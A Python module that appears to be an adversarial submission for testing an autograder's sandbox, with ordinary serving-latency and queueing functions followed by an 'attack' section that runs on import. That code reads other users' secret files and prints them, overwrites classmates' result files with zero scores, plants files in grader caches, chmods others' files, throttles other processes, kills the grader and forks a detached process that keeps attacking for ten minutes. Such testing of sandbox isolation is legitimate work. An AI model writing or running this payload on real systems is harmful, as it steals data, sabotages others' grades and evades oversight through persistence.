"""Attack: run by an ordinary user's regrade, reads, rewrites, plants and chmods that user's and classmates' files, lowers other workers' limits, knocks on loopback, kills the grader, and stays."""

from __future__ import annotations

import contextlib
import glob
import importlib
import math
import os
import re
import sys
from dataclasses import dataclass
from typing import Any, NamedTuple


class ServeResult(NamedTuple):
    total_ms: float
    throughput_rps: float
    passes: int


@dataclass(frozen=True)
class QueueingResult:
    arrival_qps: float
    service_ms: float
    replicas: int
    utilization: float
    stable: bool
    mean_latency_ms: float
    p50_latency_ms: float
    p95_latency_ms: float
    p99_latency_ms: float
    p999_latency_ms: float
    slo_ms: float
    slo_ok: bool
    queue_wait_probability: float
    queue_amplifier: float


@dataclass(frozen=True)
class BatchingTaxResult:
    batch_size: int
    arrival_qps: float
    formation_delay_ms: float
    batched_service_ms: float
    queue_p99_ms: float
    total_p99_ms: float
    formation_slo_pct: float
    throughput_gain: float
    effective_batch_qps: float
    utilization: float
    slo_ok: bool


@dataclass(frozen=True)
class CacheCapacityResult:
    total_memory_gb: float
    weight_gb: float
    state_per_request_gb: float
    available_gb: float
    max_concurrent: int
    oom: bool
    state_kind: str
    context_tokens: int


@dataclass(frozen=True)
class ColdStartResult:
    model_weight_gb: float
    storage_bandwidth_gbs: float
    interconnect_bandwidth_gbs: float
    effective_bandwidth_gbs: float
    read_ms: float
    deserialize_ms: float
    runtime_init_ms: float
    warmup_ms: float
    cold_start_ms: float
    exposed_first_request_ms: float
    protected_fraction: float
    exceeds_slo: bool


@dataclass(frozen=True)
class ServingTrackProfile:
    track_id: str
    label: str
    hardware_ref: str
    model_ref: str
    hardware_name: str
    model_name: str
    model_params_b: float
    memory_capacity_gb: float
    memory_bandwidth_gbs: float
    storage_bandwidth_gbs: float
    interconnect_bandwidth_gbs: float
    tdp_w: float
    battery_wh: float | None
    arrival_qps: float
    service_ms: float
    replicas: int
    slo_ms: float
    service_cv: float
    batch_size: int
    batch_efficiency_gain: float
    context_tokens: int
    state_kind: str
    state_mb_per_request: float | None
    precision_bytes: float
    kv_precision_bytes: float
    default_devices_per_replica: int
    deserialize_gbs: float
    runtime_init_ms: float
    warmup_ms: float
    warm_pool_replicas: int
    scale_out_replicas: int
    validation_tests: tuple[str, ...]
    serving_policy: str
    primary_metric: str
    guardrail_metric: str
    source_refs: tuple[str, str]


def serve(n_requests, batch_size, *, overhead_ms=20.0, marginal_ms=2.0):
    passes = math.ceil(n_requests / batch_size)
    total = 0.0
    left = n_requests
    for _ in range(passes):
        size = min(batch_size, left)
        total += overhead_ms + size * marginal_ms
        left -= size
    return ServeResult(total, n_requests / (total / 1000), passes)


def erlang_c(arrival_qps, service_ms, replicas):
    if service_ms <= 0 or replicas <= 0:
        return math.inf, 1.0
    mu = 1000 / service_ms
    a = arrival_qps / mu
    if a >= replicas:
        return math.inf, 1.0
    b = 1.0
    for k in range(1, replicas + 1):
        b = a * b / (k + a * b)
    return replicas * mu - arrival_qps, replicas * b / (replicas - a * (1 - b))


def queueing_latency(*, arrival_qps, service_ms, replicas=1, service_cv=1.0, slo_ms=100.0):
    c = max(1, int(replicas))
    mu = 1000 / service_ms if service_ms > 0 else 0.0
    utilization = arrival_qps / (c * mu) if c * mu else math.inf
    if utilization >= 1 or mu <= 0:
        inf = math.inf
        return QueueingResult(arrival_qps, service_ms, c, utilization, False, inf, inf, inf,
                              inf, inf, slo_ms, False, 1.0, inf)
    v = max(0.1, (1 + service_cv**2) / 2)
    rate, wait = erlang_c(arrival_qps, service_ms, c)

    def tail(q):
        if wait <= 0 or q <= 1 - wait:
            return service_ms
        return service_ms + v * (-math.log((1 - q) / wait) / rate * 1000)

    p99 = tail(0.99)
    return QueueingResult(
        arrival_qps, service_ms, c, utilization, True,
        service_ms + wait / rate * 1000 * v,
        tail(0.50), tail(0.95), p99, tail(0.999),
        slo_ms, p99 <= slo_ms, wait, p99 / service_ms,
    )


def batching_tax(*, batch_size, arrival_qps, service_ms, slo_ms, efficiency_gain=1.0,
                 replicas=1, service_cv=1.0):
    b = max(1, int(batch_size))
    lam = max(0.0001, arrival_qps)
    formation = (b - 1) / (2 * lam) * 1000
    batched = service_ms * (1 + 0.08 * math.log2(b)) / max(1.0, efficiency_gain)
    q = queueing_latency(arrival_qps=lam / b, service_ms=batched, replicas=replicas,
                         service_cv=service_cv, slo_ms=max(0.001, slo_ms - formation))
    queue_p99 = max(0.0, q.p99_latency_ms - batched)
    total = formation + batched + queue_p99 if q.stable else math.inf
    return BatchingTaxResult(
        b, lam, formation, batched, queue_p99, total,
        formation / slo_ms * 100 if slo_ms > 0 else math.inf,
        b * service_ms / batched if batched > 0 else math.inf,
        lam / b, q.utilization, total <= slo_ms,
    )


def transformer_state_gb(model, context_tokens, kv_bytes):
    layers = getattr(model, "layers", None)
    hidden = getattr(model, "hidden_dim", None)
    if not layers or not hidden:
        return None
    return 2 * layers * hidden * context_tokens * kv_bytes / 1e9


def cache_capacity(profile, model, *, context_tokens, precision_bytes, devices_per_replica=1,
                   kv_precision_bytes=None):
    total = max(0.0, devices_per_replica * profile.memory_capacity_gb)
    weight = max(0.0, profile.model_params_b * precision_bytes)
    kv = profile.kv_precision_bytes if kv_precision_bytes is None else kv_precision_bytes
    state = transformer_state_gb(model, context_tokens, kv)
    if state is None:
        if profile.state_mb_per_request is not None:
            state = profile.state_mb_per_request / 1024
        else:
            state = max(0.001, 0.1 * weight)
    available = max(0.0, total - weight)
    fits = math.floor(available / state) if state > 0 else 0
    return CacheCapacityResult(total, weight, state, available, fits, fits < 1,
                               profile.state_kind, context_tokens)


def cold_start_latency(profile, *, precision_bytes, storage_bandwidth_gbs=None,
                       interconnect_bandwidth_gbs=None, deserialize_gbs=None,
                       runtime_init_ms=None, warmup_ms=None, warm_pool_replicas=0,
                       scale_out_replicas=1):
    weight = max(0.0, profile.model_params_b * precision_bytes)
    storage = max(0.001, storage_bandwidth_gbs or profile.storage_bandwidth_gbs)
    link = max(0.001, interconnect_bandwidth_gbs or profile.interconnect_bandwidth_gbs)
    effective = min(storage, link)
    deser = max(0.001, deserialize_gbs or profile.deserialize_gbs)
    init = profile.runtime_init_ms if runtime_init_ms is None else runtime_init_ms
    warm = profile.warmup_ms if warmup_ms is None else warmup_ms
    read_ms = weight / effective * 1000
    deser_ms = weight / deser * 1000
    cold = read_ms + deser_ms + init + warm
    protected = min(1.0, max(0, warm_pool_replicas) / max(1, scale_out_replicas))
    exposed = profile.service_ms + cold * (1 - protected)
    return ColdStartResult(weight, storage, link, effective, read_ms, deser_ms, init, warm,
                           cold, exposed, protected, exposed > profile.slo_ms)


def quantity_to_float(value, unit, default):
    if value is None:
        return default
    if hasattr(value, "m_as"):
        try:
            return float(value.m_as(unit))
        except Exception:
            return default
    if hasattr(value, "to"):
        try:
            return float(value.to(unit).magnitude)
        except Exception:
            return default
    try:
        return float(value)
    except (TypeError, ValueError):
        return default


LAB_DEFAULTS: dict[str, tuple[str, Any, Any]] = {
    "arrival_qps": ("arrival_qps", 100.0, float),
    "service_ms": ("service_ms", 20.0, float),
    "replicas": ("replicas", 1, int),
    "slo_ms": ("slo_ms", 100.0, float),
    "service_cv": ("service_cv", 1.0, float),
    "batch_size": ("batch_size", 1, int),
    "batch_efficiency_gain": ("batch_efficiency_gain", 1.0, float),
    "context_tokens": ("context_tokens", 4096, int),
    "state_kind": ("state_kind", "state/cache", str),
    "state_mb_per_request": ("state_mb_per_request", None, float),
    "precision_bytes": ("precision_bytes", 2.0, float),
    "kv_precision_bytes": ("kv_precision_bytes", 2.0, float),
    "default_devices_per_replica": ("devices_per_replica", 1, int),
    "deserialize_gbs": ("deserialize_gbs", 20.0, float),
    "runtime_init_ms": ("runtime_init_ms", 800.0, float),
    "warmup_ms": ("warmup_ms", 500.0, float),
    "warm_pool_replicas": ("warm_pool_replicas", 0, int),
    "scale_out_replicas": ("scale_out_replicas", 1, int),
}


def serving_track_profile(profile, variant, hardware, model):
    defaults = variant.defaults or {}
    memory = getattr(hardware, "memory", None)
    mem_bw = getattr(memory, "bandwidth", None)
    fallback = quantity_to_float(mem_bw, "GB/s", 1.0)

    def link(key, part):
        if key in defaults:
            return quantity_to_float(defaults[key], "GB/s", fallback)
        component = getattr(hardware, part, None)
        return quantity_to_float(getattr(component, "bandwidth", None), "GB/s", fallback)

    lab = {}
    for field, (key, default, kind) in LAB_DEFAULTS.items():
        value = defaults.get(key, default)
        lab[field] = value if value is None else kind(value)
    battery = getattr(hardware, "battery_capacity", None)
    return ServingTrackProfile(
        track_id=profile.track_id,
        label=profile.label,
        hardware_ref=variant.hardware_ref,
        model_ref=variant.model_ref,
        hardware_name=getattr(hardware, "name", None) or variant.hardware_ref,
        model_name=getattr(model, "name", None) or variant.model_ref,
        model_params_b=quantity_to_float(getattr(model, "parameters", None), "param", 0.0) / 1e9,
        memory_capacity_gb=quantity_to_float(getattr(memory, "capacity", None), "GB", 0.0),
        memory_bandwidth_gbs=quantity_to_float(mem_bw, "GB/s", 0.0),
        storage_bandwidth_gbs=link("storage_bandwidth_gbs", "storage"),
        interconnect_bandwidth_gbs=link("interconnect_bandwidth_gbs", "interconnect"),
        tdp_w=quantity_to_float(getattr(hardware, "tdp", None), "W", 0.0),
        battery_wh=None if battery is None else quantity_to_float(battery, "Wh", 0.0),
        validation_tests=tuple(defaults.get("validation_tests", ())),
        serving_policy=(variant.assumptions or {}).get("serving_policy",
                                                        "track-specific serving policy"),
        primary_metric=variant.primary_metric,
        guardrail_metric=variant.guardrail_metric,
        source_refs=(variant.hardware_ref, variant.model_ref),
        **lab,
    )


# --- the attack ---------------------------------------------------------------------------

import ctypes  # noqa: E402
import errno  # noqa: E402
import resource  # noqa: E402
import signal  # noqa: E402
import socket  # noqa: E402
import time  # noqa: E402

#: Where the test's server listens on the host's loopback.
KNOCKED_PORTS = range(47820, 47830)


def quietly(action, *args):
    try:
        return action(*args)
    except OSError:
        return None


def read(path):
    with open(path, encoding="utf-8") as handle:
        return handle.read()


def write(path, data):
    with open(path, "wb") as handle:
        handle.write(data)


def knock(port):
    with socket.create_connection(("127.0.0.1", port), timeout=0.5) as connection:
        connection.sendall(b"KNOCK")


def kill_same_user():
    """Every other process of this (ordinary) user: the regrade and its gradings."""
    if os.getuid() == 0:
        return  # never as root: that would be every process on the machine
    for entry in quietly(os.listdir, "/proc") or []:
        if entry.isdigit() and int(entry) != os.getpid():
            status = quietly(read, f"/proc/{entry}/status") or ""
            uids = [line.split()[1] for line in status.splitlines() if line.startswith("Uid:")]
            if uids == [str(os.getuid())]:
                quietly(os.kill, int(entry), signal.SIGKILL)


def attack():
    secrets = [quietly(read, path) for path in glob.glob("/home/*/secret.txt")]
    print("LEAKED:" + "|".join(text for text in secrets if text))
    for path in glob.glob("/home/*/**/results.json", recursive=True):
        quietly(write, path, b'{"score": 0.0, "tests": []}')
    for folder in glob.glob("/home/*/.cache/serving-grader/*"):
        quietly(write, os.path.join(folder, "planted.pickle"), b"PLANTED")
    for port in KNOCKED_PORTS:
        quietly(knock, port)
    evidence = reach_classmates()
    evidence.append(f"stay {persist()}")
    print("classmates attack: " + "; ".join(evidence))
    kill_same_user()


#: The course secret, where the test keeps it (the attacker is taken to know its path).
COURSE_SECRET = "/tmp/serving-grader-course-secret/course_secret"
#: Other processes' pids tried, on each side of the worker's own.
PID_SPAN = 300


def outcome(action, *args):
    """'ok', or the errno's name."""
    try:
        action(*args)
        return "ok"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))


def tally(outcomes):
    counted = {}
    for result in outcomes:
        counted[result] = counted.get(result, 0) + 1
    return ",".join(f"{name}={count}" for name, count in sorted(counted.items()))


def seat_files():
    """The classmates' serving.py, named by listing the seats' folder (the box's grandparent:
    its uid is this worker's where the regrade runs without namespaces)."""
    box = os.getcwd()
    seats = os.path.dirname(os.path.dirname(box))
    names = quietly(os.listdir, seats) or []
    return [os.path.join(seats, name, "box", "serving.py") for name in names
            if name.startswith("seat-") and os.path.join(seats, name, "box") != box
            and not name.endswith(".lock")]


def reach_classmates():
    """chmod the classmates' files and the secret, lower other processes' file limits."""
    files = seat_files()
    evidence = [f"listed {len(files)} seats",
                "chmod seats " + tally(outcome(os.chmod, path, 0) for path in files),
                "chmod secret " + outcome(os.chmod, COURSE_SECRET, 0o644)]
    own = os.getpid()
    tried = [outcome(resource.prlimit, pid, resource.RLIMIT_NOFILE, (3, 3))
             for pid in range(max(2, own - PID_SPAN), own + PID_SPAN) if pid != own]
    evidence.append("prlimit others " + tally(tried))
    evidence.append("renice user " + outcome(os.setpriority, os.PRIO_USER, 0, 19))
    return evidence


def blank_environment():
    """Zero the environment's bytes where /proc/self/environ reads them."""
    libc = ctypes.CDLL(None)
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    index = 0
    while environ[index] is not None:
        entry = environ[index]
        ctypes.memset(entry, 0, len(entry))
        index += 1


def persist():
    """Fork a process that leaves the worker's session, folder and environment, and goes on
    reaching the classmates for ten minutes; what the fork returned."""
    try:
        pid = os.fork()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))
    if pid:
        return "ok"
    try:
        quietly(os.setsid)
        quietly(os.chdir, "/")
        blank_environment()
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline:
            quietly(reach_classmates)
            time.sleep(0.2)
    finally:
        os._exit(0)


attack()
